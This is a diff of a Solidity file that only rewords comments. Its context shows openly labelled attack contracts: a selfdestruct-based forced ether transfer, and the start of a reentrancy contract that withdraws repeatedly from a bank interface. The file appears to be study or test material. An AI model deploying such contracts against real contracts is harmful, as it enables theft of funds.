@@ -4,7 +4,7 @@ pragma solidity 0.8.37;
 // #region attack
 contract Gift {
     constructor(address payable receiver) payable {
-        selfdestruct(receiver); // runs no code of the receiver, and cannot be refused
+        selfdestruct(receiver); // runs no code of the receiver, so it cannot be rejected
     }
 }
 // #endregion attack
@@ -15,7 +15,7 @@ interface IBank {
     function withdraw() external;
 }
 
-/// Withdraws, and withdraws again while it is being paid.
+/// Withdraws, then withdraws again while it is being paid.
 contract Twice {
     function attack(IBank bank) external payable {
         bank.deposit{value: msg.value}();
